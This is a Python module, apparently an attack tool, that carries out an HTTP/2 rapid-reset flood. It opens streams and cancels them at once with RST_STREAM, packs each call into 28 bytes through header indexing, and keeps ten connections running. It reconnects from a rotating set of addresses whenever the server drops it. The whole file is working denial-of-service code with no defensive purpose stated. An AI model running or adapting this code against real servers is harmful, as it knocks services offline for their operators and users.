"""Floods of calls that are reset as soon as they are begun."""

import time

from http2 import (END_HEADERS, HEADERS, PREFACE, RST_STREAM, SETTINGS,
                   connect, frame, header_block)

CONNECTIONS = 10
CALLS_OF_A_CONNECTION = 100_000


def _flood(path):
    """What one connection sends.  The first call enters its headers into the
    peer's table, the others name them by number: 28 bytes each."""
    first = header_block(path, index=True)
    again = bytes(0x80 + 62 + at for at in range(6))
    cancel = (8).to_bytes(4, "big")
    out = bytearray(PREFACE + frame(SETTINGS))
    for number in range(CALLS_OF_A_CONNECTION):
        stream = 2 * number + 1
        out += frame(HEADERS, END_HEADERS, stream, again if number else first)
        out += frame(RST_STREAM, 0, stream, cancel)
    return memoryview(bytes(out))


def flood(port, path, seconds, addresses):
    """Sends on ten connections at a time, and connects anew from the next
    address whenever it is hung up on.  Returns the number of connections."""
    data = _flood(path)
    peers = {}  # socket: bytes of `data` sent
    connections = 0
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        while len(peers) < CONNECTIONS:
            try:
                peer = connect(port, next(addresses))
            except OSError:  # hung up on at once
                connections += 1
                break
            peer.setblocking(False)
            peers[peer] = 0
            connections += 1
        for peer in list(peers):
            try:
                peers[peer] += peer.send(
                    data[peers[peer]:peers[peer] + (1 << 16)])
            except BlockingIOError:
                pass
            except OSError:
                peers[peer] = len(data)
            if peers[peer] == len(data):
                peer.close()
                del peers[peer]
    for peer in peers:
        peer.close()
    return connections
